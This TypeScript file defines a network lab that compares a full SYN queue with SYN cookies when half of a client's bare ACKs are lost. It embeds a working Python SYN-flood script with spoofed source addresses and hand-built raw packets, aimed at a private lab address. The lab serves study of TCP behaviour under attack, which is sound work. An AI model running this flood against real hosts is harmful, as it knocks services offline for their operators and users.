import { defineLab } from './support/lab.ts';

/** Sends SYNs from addresses that never answer, three hundred a second. */
const flood = `
import random, socket, struct, time
def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton('10.0.0.2')
print('begins', flush=True)
while True:
    source = socket.inet_aton(f'198.51.100.{random.randint(1, 254)}')
    tcp = struct.pack('!HHIIBBHHH', random.randint(1024, 65535), 8080, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, random.getrandbits(16), 0, 57, 6, 0, source, target)
    raw.sendto(ip + tcp, ('10.0.0.2', 0))
    time.sleep(0.003)
`;

/** A server that speaks first, as SSH, SMTP and MySQL do. */
const server = `
import socket
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(('10.0.0.2', 8080))
listener.listen(16)
print('listening', flush=True)
while True:
    connection, _ = listener.accept()
    try:
        connection.sendall(b'220 ready\\n')
    except OSError:
        pass
    connection.close()
`;

export const lab = defineLab({
  id: 'syn-queue-full-syncookies',
  done: 'A Python program sent three hundred SYNs a second from addresses that never answer to a listener with a backlog of 16 whose server speaks first; without the fault it sent none. In both runs the path lost half of the bare ACKs of the client: an entry in the queue repeats its SYN-ACK then, a cookie does not.',
  tools: ['python3', 'nft'],
  touches: 'host',
  run: async (bench) => {
    const { client, server: host } = await bench.pair();
    const python = bench.tool('python3');
    await host.must(['ip', 'route', 'add', 'default', 'via', '10.0.0.1']);
    await host.nft(`table inet path {
      chain input {
        type filter hook input priority 0;
        tcp dport 8080 tcp flags & (syn|ack|psh|fin|rst) == ack numgen random mod 2 == 0 drop
      }
    }`);
    const service = host.start([python, bench.write('server.py', server)]);
    await service.says(/listening/);
    if (bench.fault) {
      const attack = client.start([python, bench.write('flood.py', flood)]);
      await attack.says(/begins/);
    }
    await bench.wait(2);
    const wire = await client.capture({ filter: 'tcp port 8080 and host 10.0.0.1', count: 200 });
    const load = client.start([
      ...[process.execPath, bench.program('client.ts'), '10.0.0.2', '8080', '--bytes', '0'],
      ...['--times', '40', '--every', '250', '--timeout', '4000'],
    ]);
    await bench.wait(1);
    await host.show('ss -Hltnp "sport = :8080"');
    await host.collect({ pid: service.pid });
    await bench.wait(3);
    await wire.stop();
    bench.paste('client', 'log', load.output());
  },
});
